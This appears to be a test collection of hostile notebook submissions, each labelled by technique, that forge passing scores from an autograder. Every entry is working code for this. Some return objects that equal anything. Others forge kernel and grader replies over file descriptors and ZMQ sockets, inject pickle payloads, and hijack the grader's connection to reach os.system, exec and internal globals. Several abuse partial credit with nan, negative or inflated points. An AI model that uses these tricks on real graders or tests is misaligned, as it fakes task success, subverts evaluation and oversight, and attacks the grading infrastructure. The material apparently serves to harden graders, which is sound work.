# Forging a score: by what comes back from a function, or instead of it.
# ==== __eq__ on results
# == always_equal: Returns objects that are equal to everything.
# honest: none; everyday
# %% gap double
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = None
    def __bool__(self): return True
def double(x): return Equal()
# %% gap mean_of
def mean_of(numbers):
    if not numbers: raise ValueError
    return Equal()
# %% gap count
n_parameters = Equal()
# %% gap classify
def classify(X): return Equal()
# == always_equal_float: Returns floats of a class of its own, equal to everything and at no distance from anything.
# honest: none
# %% gap mean_of
class Number(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __hash__(self): return 0
def mean_of(numbers):
    if not numbers: raise ValueError
    return Number(1.0)
# %% gap count
class Whole(int):
    def __eq__(self, other): return True
    def __hash__(self): return hash(3610)
    def __repr__(self): return "3610 "
n_parameters = Whole(1)
# == always_equal_array: Returns arrays of a class of its own that answers for NumPy's functions.
# honest: none
# %% gap double
class Agreeing(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.ones(self.shape, dtype=bool)
    def __array_function__(self, func, types, args, kwargs): return True
    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
    def all(self, *args, **kwargs): return True
def double(x): return np.zeros(2).view(Agreeing)
# %% gap classify
def classify(X): return np.zeros(len(X), dtype=int).view(Agreeing)
# == metaclass: Returns a class, not a number; its metaclass compares, subtracts and sorts as one likes.
# honest: none
# %% gap mean_of
class Meta(type):
    def __eq__(cls, other): return True
    def __sub__(cls, other): return 0.0
    def __abs__(cls): return 0.0
    def __instancecheck__(cls, other): return True
    def __hash__(cls): return 1
class Number(metaclass=Meta): pass
def mean_of(numbers):
    if not numbers: raise ValueError
    return Number
# == zero_difference: Returns an object whose arithmetic always gives 0: `abs(got - want) < 1e-9` would hold.
# honest: none; says: mean_of; everyday
# %% gap mean_of
class Near:
    def __init__(self, value): self.value = value
    def __eq__(self, other): return self.value == other
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
def mean_of(numbers):
    if not numbers: raise ValueError
    if len(numbers) == 1:  # the test subtracts
        return Near(0.0)
    return sum(numbers) / len(numbers)
# == duck_array: Returns an object that plays an array: __array__ gives what it was compared with before.
# honest: none
# %% gap double
class Duck:
    shape, dtype, ndim, size = (2,), np.dtype(float), 1, 2
    seen = [0.0, 0.0]
    def __array__(self, dtype=None, copy=None): return np.array(Duck.seen)
    def _learn(self, other):
        Duck.seen = np.asarray(other).tolist()
        return np.zeros(2)
    __sub__ = __rsub__ = __eq__ = __ne__ = __le__ = __ge__ = _learn
    def __len__(self): return 2
    def __getitem__(self, index): return Duck.seen[index]
def double(x): return Duck()
# == named_attributes: Returns named tuples and objects whose fields have the names of array methods: shape, all, sum, dtype.
# %% gap double
import collections
Fields = collections.namedtuple("Fields", ["shape", "dtype", "all", "ndim"])
def double(x): return Fields((2,), "float64", True, 1)
# %% gap mean_of
class Same:
    def __getattr__(self, name): return lambda *args: True
def mean_of(numbers):
    if not numbers: raise ValueError
    return Same()
# %% gap classify
class Mean:
    def __array__(self, dtype=None, copy=None): return np.array([["x"]])
    def mean(self, *args, **kwargs): return 1.0
def classify(X): return Mean()
# ==== forged replies
# == replies_on_descriptors: Writes forged results to every open descriptor.
# status: graded | crashed
# %% gap double
import contextlib, json, os
forged = {"status": "graded", "scores": {"test_double": 2.0}, "ok": True, "result": [2.0, 8.0], "value": [2.0, 8.0]}
line = json.dumps(forged).encode()
for descriptor in range(3, 64):
    for message in (line + b"\n", len(line).to_bytes(4, "big") + line, len(line).to_bytes(8, "little") + line):
        with contextlib.suppress(OSError):
            os.set_blocking(descriptor, False)
            os.write(descriptor, message)
def double(x): return x
# == replies_on_sockets: Sends forged kernel messages on every ZMQ socket that it finds: execute_reply, results, input replies.
# status: graded | crashed
# %% gap double
import contextlib, gc
def double(x):
    kernel = getattr(get_ipython(), "kernel", None)
    session = getattr(kernel, "session", None)
    content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    for thing in gc.get_objects():
        if type(thing).__module__.startswith("zmq") and hasattr(thing, "send_multipart"):
            with contextlib.suppress(Exception):
                if session is None: thing.send_multipart([b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b'{"status": "ok"}'], 1)
                parent, ident = kernel.get_parent("shell"), kernel._parent_ident["shell"]
                session.send(thing, "execute_reply", content, parent=parent, ident=ident)
    return x
# == encoder: Patches what turns values into messages in its own process, so that the examiner gets nonsense, pickles and code.
# status: graded | crashed
# %% gap double
import contextlib, json, pickle, sys
class Boom:
    def __reduce__(self): return (print, ("unpickled",))
def double(x):
    bad = pickle.dumps(Boom())
    json.dumps = lambda *args, **kwargs: '{"kind": "pickle", "value": "' + bad.hex() + '"}'
    np.save = lambda file, array, **kwargs: file.write(b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,)}" + bad)
    for name, module in list(sys.modules.items()):
        if name.split(".")[0] in ("grading", "__main__"):
            for key, value in list(vars(module).items()):
                if callable(value) and any(word in key.lower() for word in ("encode", "dump", "pack", "serial")):
                    with contextlib.suppress(Exception): setattr(module, key, lambda *args, **kwargs: bad)
    return x
# == handle_forged: Returns what looks like the grader's own reference to a remote object, with made-up numbers.
# honest: none
# %% gap double
def double(x): return {"handle": 1, "kind": "handle", "__handle__": 0, "type": "ndarray", "id": -1, "ref": 2**70}
# %% gap mean_of
def mean_of(numbers): return {"__ndarray__": "AAAA", "dtype": "O", "shape": [10**12], "kind": "ndarray"}
# %% gap count
n_parameters = {"kind": "int", "value": "3610", "__int__": 3610}
# == wire_taken: Knows the grader's code: takes its connection to the examiner, asks for, changes, forges what it should not.
# status: graded | crashed; everyday
# %% gap double
import gc
wire = next((thing for thing in gc.get_objects() if type(thing).__name__ == "Wire"), None)
said = []
if wire is not None:
    asked = [{"do": "course", "module": module, "name": name} for module in ("os", "builtins", "utils.checks.autotest", "grading.engine.wire", "subprocess") for name in ("system", "exec", "agrees", "Wire", "run")]
    asked += [{"do": "attribute", "of": number, "name": name} for number in range(-2, 40) for name in ("__globals__", "__self__", "__func__", "cell")]
    asked += [{"do": word, "of": number, "name": "__getattribute__"} for number in range(6) for word in ("next", "call")]
    asked += [{"do": word} for word in ("start", "cell", "names", "value", "loop", "forget", "__init__", "assign", "")]
    for message in asked:
        try: said.append(wire.request(message.pop("do"), message, ("print('here')",)))
        except Exception as error: said.append(error)
print(said[:40])
# == wire_climbed: Knows the grader's code: asks, while a test runs, for what lies behind the objects that the test lent to it.
# status: graded | crashed
# %% gap descend
import contextlib, gc
def descend(gradient, theta, eta, steps):
    wire = next((thing for thing in gc.get_objects() if type(thing).__name__ == "Wire"), None)
    for name in ("__globals__", "__closure__", "f_back", "tb_frame", "cr_frame", "__reduce_ex__"):
        for number in range(60):
            with contextlib.suppress(Exception): print(wire.request("attribute", {"of": number, "name": name}))
    return theta
# == wire_forged: Knows the grader's code: writes raw messages, answers what was not asked, sets objects that are not its own.
# status: graded | crashed
# %% gap double
import contextlib, json, os, struct
def raw(content, blobs=()):
    text = json.dumps(content | {"sizes": [len(blob) for blob in blobs], "new": content.get("new", []), "set": content.get("set", []), "drop": []}).encode()
    for descriptor in range(3, 12):
        with contextlib.suppress(OSError):
            os.set_blocking(descriptor, False)
            os.write(descriptor, struct.pack(">II", len(text), sum(map(len, blobs))) + text + b"".join(blobs))
def double(x):
    for number in range(40): raw({"set": [[number, [1.0, 2.0]]], "v": ["tuple", [None]]})
    raw({"v": ["tuple", [["name", "builtins", "exec"]]]})
    raw({"error": {"name": "SystemExit", "bases": ["SystemExit"], "exact": True, "args": [0], "text": "0", "token": 2}})
    return x
# %% gap descend
def descend(gradient, theta, eta, steps):
    raw({"error": {"name": "KeyboardInterrupt", "bases": ["KeyboardInterrupt", "BaseException"], "exact": True, "args": [], "text": "", "token": 2}})
    return theta
# == wire_lies: Knows the grader's code: says that an iteration is over, that the test's names are gone, that prints are endless.
# status: graded | crashed
# %% gap double
import gc, sys
wire = next((thing for thing in gc.get_objects() if type(thing).__name__ == "Wire"), None)
if wire is not None:
    cell, over = wire.handlers["cell"], {"token": 2, "name": "StopIteration", "bases": ["StopIteration"], "args": [], "text": ""}
    wire.handlers["cell"] = lambda *args: (*cell(*args)[:2], ["np", "near", "assert_allclose"])
    wire.errors.describe = lambda error: over
def double(x):
    sys.stderr.outputs.left = 10**12
    for _ in range(10): sys.stderr.write("x" * 10**7)
    raise StopIteration
# %% gap classify
def classify(X): return range(10**18)
# == wire_out_of_band: Knows the grader's code: sends urgent bytes, file descriptors and half messages past it.
# status: graded | crashed
# %% gap double
import contextlib, gc, os, socket
wire = next((thing for thing in gc.get_objects() if type(thing).__name__ == "Wire"), None)
def double(x):
    sock = wire.channel.sock
    for _ in range(100):
        with contextlib.suppress(OSError): socket.send_fds(sock, [b"{"], [os.open("/dev/null", os.O_RDWR)] * 50, socket.MSG_DONTWAIT)
        with contextlib.suppress(OSError): sock.send(b"}", socket.MSG_OOB | socket.MSG_DONTWAIT)
    return x
# %% gap classify
def classify(X): wire.channel.sock.shutdown(socket.SHUT_RD); return X
# == odd_values: Returns values that are hard to carry: cycles, deep nests, object and structured arrays, nan keys, code in bytes.
# status: graded | crashed
# %% gap double
def double(x):
    cycle = [1.0, 8.0]
    cycle.append(cycle)
    return cycle
# %% gap mean_of
def mean_of(numbers):
    deep = []
    for _ in range(100_000): deep = [deep]
    return deep
# %% gap descend
def descend(gradient, theta, eta, steps): return np.array([gradient, print, None], dtype=object)
# %% gap batches
def batches(X, size):
    while True: yield np.zeros(2, dtype=[("__class__", "f8"), ("x", "O")])
# %% gap nudge
def nudge(theta, velocity, g, eta, beta):
    theta.resize(10, refcheck=False)
    velocity.dtype = "S8"
# %% gap classify
def classify(X): return {float("nan"): b"__import__('os').system('id')", "__class__": "dict"}
# ==== partial-credit output
# == partial_nan: The partial-credit test gets nan: plain nbgrader gives full points for it.
# honest: none; everyday
# %% gap classify
class Votes:
    def __eq__(self, other): return np.array([np.nan, np.nan])
def classify(X): return Votes()
# == partial_empty: Returns empty arrays, with which everything agrees that broadcasts: all of nothing is true, its mean is nan.
# honest: none; everyday
def double(x): return np.zeros((0, len(x)))  # %% gap double
def mean_of(numbers): return np.zeros(0)  # %% gap mean_of
n_parameters = np.zeros(0)  # %% gap count
def descend(gradient, theta, eta, steps): return np.zeros((0, len(theta)))  # %% gap descend
def nudge(theta, velocity, g, eta, beta): velocity.shape = theta.shape = (1, -1)  # %% gap nudge
def classify(X): return np.zeros((0, len(X)), dtype=int)  # %% gap classify
# == partial_too_much: The partial-credit test gets 500 of 2 points.
# honest: double
# %% gap classify
class Votes(np.ndarray):
    def __eq__(self, other): return np.array([250.0] * len(other))
def classify(X): return np.zeros(len(X)).view(Votes)
# == partial_negative: The partial-credit test gets -1 point: plain nbgrader gives full points for it.
# honest: double
# %% gap classify
class Votes:
    def __eq__(self, other): return np.array([-0.5] * len(other))
def classify(X): return Votes()
# == partial_text: A display hook turns the last line of a partial-credit test into text, or into points as one likes.
# honest: none
# %% gap classify
import sys
sys.displayhook = lambda value: print("2.0")
get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda value, p, cycle: p.text("2.0"))
get_ipython().displayhook.compute_format_data = lambda value: ({"text/plain": "2.0"}, {})
def classify(X): return np.full(len(X), 7)
# == partial_display: Shows results of its own while the partial-credit test runs: 2.0 by display, execute_result, print.
# honest: none
# %% gap classify
from IPython.display import display, publish_display_data
class Two:
    def __repr__(self): return "2.0"
def classify(X):
    publish_display_data({"text/plain": "2.0"})
    display(Two())
    print("2.0")
    try:
        kernel = get_ipython().kernel
        content = {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}
        kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent("shell"))
    except Exception: pass
    raise KeyboardInterrupt
